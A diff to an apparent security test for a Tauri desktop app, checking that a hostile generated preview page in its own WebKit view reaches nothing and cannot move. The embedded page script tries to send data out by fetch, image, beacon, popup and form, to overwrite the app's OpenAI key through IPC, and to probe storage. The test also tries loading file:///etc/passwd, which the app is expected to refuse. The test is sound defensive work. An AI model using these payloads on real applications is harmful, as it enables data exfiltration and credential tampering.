@@ -4,6 +4,7 @@
 // the app must keep working.
 import { after, before, test } from "node:test";
 import assert from "node:assert/strict";
+import http from "node:http";
 import { join } from "node:path";
 import { invokeInPage, launchApp, poll, saveDrawnScreenshot, textGeneration, useMockOpenAi } from "../harness.mjs";
 import { startMockVendor } from "../mock-vendor.mjs";
@@ -16,7 +17,27 @@ const HOSTILE = `<!DOCTYPE html>
 <html><head><title>Totally harmless</title></head>
 <body><h1>Nothing to see</h1>
 <script>
-(async () => {
+// Shown by the app in a view of its own (src-tauri/src/preview/native/), the page is its own
+// window: it tries to reach the address in ?leak= every way a page can, then says what it is
+// by going to its own address with what it found (the test reads the view's address), then
+// tries to leave. Nothing may arrive at ?leak=, and the view must stay on the page.
+const own = new URLSearchParams(location.search);
+if (window.parent === window && own.get("leak") && own.get("step") === "2") window.location.assign(own.get("leak") + "/leak-navigation");
+else if (window.parent === window && own.get("leak")) (async () => {
+  const leak = own.get("leak");
+  const settle = (p) => Promise.race([Promise.resolve(p).catch(() => null), new Promise((ok) => setTimeout(ok, 3000))]);
+  await settle(fetch(leak + "/leak-fetch", { mode: "no-cors" }));
+  await settle(new Promise((ok) => { const img = new Image(); img.onload = img.onerror = ok; img.src = leak + "/leak-img"; }));
+  try { navigator.sendBeacon(leak + "/leak-beacon", "x"); } catch (e) {}
+  await settle(fetch("ipc://localhost/key_set", { method: "POST", body: JSON.stringify({ provider: "openai", key: "stolen" }) }));
+  try { window.__TAURI_INTERNALS__.invoke("key_set", { provider: "openai", key: "stolen" }); } catch (e) {}
+  try { window.open(leak + "/leak-open"); } catch (e) {}
+  try { const f = document.createElement("form"); f.method = "POST"; f.action = leak + "/leak-form"; document.body.appendChild(f); f.submit(); } catch (e) {}
+  await new Promise((ok) => setTimeout(ok, 200));
+  const found = new URLSearchParams({ step: "2", origin: String(window.origin), tauri: typeof window.__TAURI_INTERNALS__ + "/" + typeof window.__TAURI__, storage: (() => { try { localStorage.setItem("s2c", "x"); return "yes"; } catch (e) { return "no"; } })() });
+  window.location.assign(location.href + "&" + found);
+})();
+else (async () => {
   const results = {};
   const attempt = async (name, fn) => {
     try {
@@ -152,6 +173,55 @@ test("a hostile generated page can do nothing but draw itself", async () => {
   assert.ok(keys.ok.find((k) => k.provider === "openai")?.set);
   const handles = await app.browser.getWindowHandles();
   assert.equal(handles.length, 1, "no window was opened");
+});
+
+// While an option writes, the app shows its page in a WebKit view of its own process, not in a
+// frame: the same page there can reach nothing either, and cannot take the view elsewhere.
+test("in the page's own view, a hostile page reaches nothing and stays put", async () => {
+  assert.ok(previewUrl, "the first test made a preview");
+  const before = (await invokeInPage(app.browser, "native_preview_state", {})).ok;
+  // Anything that reaches this server, in any form, is a leak.
+  const reached = [];
+  const outside = http.createServer((req, res) => {
+    reached.push(`${req.method} ${req.url}`);
+    res.end("ok");
+  });
+  await new Promise((ok) => outside.listen(0, "127.0.0.1", ok));
+  after(() => outside.close());
+  const url = `${previewUrl}&leak=${encodeURIComponent(`http://127.0.0.1:${outside.address().port}`)}`;
+  const shown = await invokeInPage(app.browser, "native_preview_show", { url, bounds: { x: 0, y: 0, width: 600, height: 300 }, zoom: 1 });
+  assert.ok(!shown.err, JSON.stringify(shown));
+  const state = await poll(
+    "the page's last attempt, to leave its variant, to be refused",
+    async () => {
+      const now = (await invokeInPage(app.browser, "native_preview_state", {})).ok;
+      return now.refused > before.refused ? now : null;
+    },
+    { timeout: 30_000, interval: 200 },
+  );
+  assert.equal(state.shown, true);
+  assert.equal(state.url, url);
+  assert.ok(state.at?.startsWith(url.split("index.html")[0]), `the view left the variant: ${state.at}`);
+  // What the page found, from its own address: an opaque origin (sandboxed as a frame is), no
+  // way to the app, no storage.
+  const found = new URL(state.at).searchParams;
+  assert.equal(found.get("step"), "2", `the page did not get to say what it found: ${state.at}`);
+  assert.equal(found.get("origin"), "null", "the page is not sandboxed");
+  assert.equal(found.get("tauri"), "undefined/undefined", "the page can see the app's IPC");
+  assert.equal(found.get("storage"), "no", "the page has storage");
+  assert.deepEqual(reached, [], "the page reached the outside");
+  // An address that is not a variant's page is refused before it reaches the view.
+  for (const away of ["https://example.com/", "tauri://localhost/index.html", "file:///etc/passwd"]) {
+    const refused = await invokeInPage(app.browser, "native_preview_show", { url: away, bounds: { x: 0, y: 0, width: 600, height: 300 }, zoom: 1 });
+    assert.equal(refused.err?.code, "invalid_input", `${away}: ${JSON.stringify(refused)}`);
+  }
+  await saveDrawnScreenshot(app.browser, "hostile-page-own-view");
+  await invokeInPage(app.browser, "native_preview_hide", {});
+  const keys = await invokeInPage(app.browser, "keys_status", {});
+  assert.ok(keys.ok.find((k) => k.provider === "openai")?.set);
+  const asked = vendor.requests.length;
+  await invokeInPage(app.browser, "key_test", { provider: "openai" });
+  assert.deepEqual(vendor.requests.slice(asked).map((r) => r.authorization), [`Bearer ${KEY}`], "the key was replaced by the page in its own view");
 });
 
 // Tauri counts the preview scheme as the app's own, so a preview that became the window's own
